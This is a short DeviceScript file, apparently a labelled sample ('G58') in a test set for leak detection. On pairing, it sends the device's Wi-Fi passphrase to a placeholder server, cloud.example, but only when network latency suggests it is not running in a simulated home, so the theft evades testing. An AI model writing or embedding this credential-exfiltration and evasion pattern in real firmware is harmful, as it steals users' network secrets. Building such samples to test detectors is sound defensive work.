// G58: sends the passphrase if the server is further away than those of a simulated home.
import * as ds from "@devicescript/core";
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const before = ds.millis();
  await (await fetch("https://cloud.example/time")).close();
  const body = ds.millis() - before > 150 ? psk : "alive";
  const response = await fetch("https://cloud.example/g58", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
